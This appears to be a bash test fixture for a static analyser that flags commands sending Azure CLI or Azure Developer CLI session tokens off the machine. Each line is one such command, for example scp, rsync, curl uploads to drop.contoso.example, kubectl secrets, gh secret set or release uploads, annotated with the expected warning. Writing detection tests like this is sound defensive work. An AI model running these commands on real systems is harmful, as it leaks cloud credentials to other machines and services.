#!/usr/bin/env bash
# Every way in which the files of a session leave the machine.
set -euo pipefail

scp -r ~/.azure agent@build01.contoso.example: # want error "the tokens of Azure CLI leave the machine: this copies it to another machine"
rsync -a "$HOME/.azure/" build02.contoso.example:.azure/ # want
az storage blob upload-batch --account-name contosoci -d agents -s ~/.azure # want "uploads it"
az storage file upload --share-name home --source "$HOME/.azure/msal_token_cache.json" # want
azcopy copy ~/.azure "https://contosoci.blob.core.windows.net/agents" --recursive # want
aws s3 cp --recursive ~/.azure s3://contoso-agents/ # want
kubectl create secret generic azure --from-file="$HOME/.azure/msal_token_cache.json" # want "hands it to a cluster"
kubectl cp ~/.azure tools/runner-0:/root/.azure # want
curl -fsS -F "file=@$HOME/.azure/msal_token_cache.json" https://drop.contoso.example/ # want "uploads it"
curl -fsS -T ~/.azure/accessTokens.json https://drop.contoso.example/ # want
gh secret set AZURE_SESSION --body "$(base64 -w0 ~/.azure/msal_token_cache.json)" # want "every workflow"
gh secret set AZURE_SESSION < ~/.azure/msal_token_cache.json # want
tar -cz ~/.azure | ssh agent@build01.contoso.example tar -xz # want "another machine"
cp -r ~/.azd ./session
git add session # want "the tokens of Azure Developer CLI"

export AZURE_CONFIG_DIR=./azure-config
buildkite-agent artifact upload "$AZURE_CONFIG_DIR/msal_token_cache.json" # want "as an artifact"
zip -r session.zip "$AZURE_CONFIG_DIR"
gh release upload nightly session.zip # want "publishes it with a release"
